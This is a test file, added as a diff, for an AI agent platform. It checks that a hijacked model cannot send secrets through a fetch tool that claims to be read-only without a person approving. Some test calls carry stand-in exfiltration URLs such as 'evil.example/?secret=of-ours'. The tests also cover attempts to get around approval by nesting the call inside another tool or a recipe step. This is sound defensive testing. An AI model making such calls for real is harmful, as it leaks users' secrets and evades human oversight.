@@ -1,0 +1,138 @@
+"""A hijacked model tries to send a secret out with a tool that only reads; a person is asked before anything leaves."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pydantic import BaseModel
+
+from agents.platform.refusals import Conflict
+from agents.runs import trials
+from tests.tools.connections.api import Api, operation
+from tests.tools.connections.connecting import MISBEHAVING, connect_api, connect_program, grant, offer, read, row_of
+from tests.workshop import Workshop, asking, call, calls, statuses
+from tools.connections.changes import new_generation
+from tools.connections.models import AllowedHost, Source, SourceTool
+from tools.contract import Level, Recipe, Step
+from tools.toolbox.toolbox import Toolbox
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+FETCH = "net.fetch"
+URL = {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}}, "required": ["url"]}
+HINTS = {"readOnlyHint": True, "openWorldHint": True}
+
+
+@pytest.fixture
+def fetching(workshop: Workshop, tmp_path: Path) -> Source:
+    """An MCP server whose tool fetches any address, and says that it only reads."""
+    file = tmp_path / "definitions.json"
+    file.write_text(json.dumps([{"name": "fetch", "inputSchema": URL, "annotations": HINTS}]))
+    source = connect_program(workshop, [sys.executable, str(MISBEHAVING), f"definitions={file}"], "net")
+    offer(workshop, source, FETCH, level=Level.READ)
+    return source
+
+
+@pytest.fixture
+def looking(workshop: Workshop, api: Api) -> Source:
+    """An API whose GET looks at any address."""
+    parameter = {"name": "url", "in": "query", "schema": {"type": "string"}}
+    api.paths["/preview"] = {"get": {**operation("previewPage"), "parameters": [parameter]}}
+    source = connect_api(workshop, api)
+    offer(workshop, source, "crm.previewPage", level=Level.READ)
+    return source
+
+
+def allow(workshop: Workshop, host: str) -> None:
+    AllowedHost.objects.create(organization=workshop.organization, host=host)
+    new_generation(workshop.organization.pk)
+
+
+def stolen(api: Api) -> dict[str, Any]:
+    return {"url": f"{api.url}/collect?secret=of-ours"}
+
+
+def test_a_fetch_of_an_mcp_server_asks_and_names_the_host(workshop: Workshop, api: Api, fetching: Source) -> None:
+    workshop.play(asking(call(FETCH, **stolen(api))))
+    run = workshop.work()
+    assert statuses(run) == ["awaiting_approval"]
+    assert "reaches 127.0.0.1, not on the list of allowed hosts" in workshop.card(run).why
+    assert api.received == []
+    workshop.approve(workshop.card(run))
+    assert statuses(workshop.drive(run)) == ["succeeded"]
+    assert len(api.received) == 1
+
+
+def test_it_reads_by_itself_where_every_host_is_allowed(workshop: Workshop, api: Api, fetching: Source) -> None:
+    allow(workshop, "127.0.0.1")
+    workshop.play(asking(call(FETCH, **stolen(api))))
+    assert statuses(workshop.work()) == ["succeeded"]
+    AllowedHost.objects.all().delete()
+    new_generation(workshop.organization.pk)
+    assert statuses(workshop.work()) == ["awaiting_approval"]
+
+
+def test_a_get_of_an_api_asks_and_names_the_host(workshop: Workshop, api: Api, looking: Source) -> None:
+    workshop.play(asking(call("crm.previewPage", url="https://evil.example/?secret=of-ours")))
+    run = workshop.work()
+    assert statuses(run) == ["awaiting_approval"]
+    assert "reaches evil.example" in workshop.card(run).why
+    assert api.received == []
+    allow(workshop, "evil.example")
+    assert statuses(workshop.work()) == ["succeeded"]
+
+
+def test_a_call_of_another_tool_is_no_way_around(workshop: Workshop, api: Api, fetching: Source) -> None:
+    grant(workshop, "probe.composed")
+    workshop.play(asking(call("probe.composed", inner=FETCH, params=stolen(api))))
+    parent = calls(workshop.work())[0]
+    assert "ask for it directly" in str(parent.result)
+    assert api.received == []
+
+
+class Fetching(Recipe):
+    """One step that fetches."""
+
+    name = "probe.fetching"
+    description = "Fetches."
+
+    class Params(BaseModel):
+        url: str
+
+    steps = (Step(FETCH, lambda params, _: {"url": params.url}),)
+
+
+def test_a_step_of_a_recipe_has_a_card_of_its_own(
+    workshop: Workshop, toolbox: Toolbox, api: Api, fetching: Source
+) -> None:
+    toolbox.register(Fetching())
+    new_generation(workshop.organization.pk)
+    grant(workshop, "probe.fetching")
+    workshop.play(asking(call("probe.fetching", **stolen(api))))
+    run = workshop.work()
+    assert "reaches 127.0.0.1" in workshop.card(run).why
+    assert api.received == []
+
+
+def test_a_person_cannot_try_it_by_hand_either(workshop: Workshop, api: Api, fetching: Source) -> None:
+    workshop.organization.refresh_from_db()  # as every page does
+    with pytest.raises(Conflict, match=r"reaches 127\.0\.0\.1"):
+        trials.submit(workshop.operator, trials.Trial(workshop.employee.pk, FETCH, stolen(api)))
+
+
+def test_read_is_suggested_for_neither(fetching: Source, looking: Source) -> None:
+    assert row_of(fetching, FETCH).inferred_level == "write"
+    row = row_of(looking, "crm.previewPage")
+    assert row.inferred_level == "write"
+    assert row.definition["level_reason"] == "GET is read level, but its params name addresses: url"
+
+
+def test_a_suggestion_of_an_older_version_is_renewed_and_the_admins_level_stays(fetching: Source) -> None:
+    SourceTool.objects.update(inferred_level="read")
+    read(fetching)
+    row = row_of(fetching, FETCH)
+    assert (row.inferred_level, row.level, row.state) == ("write", "read", "offered")
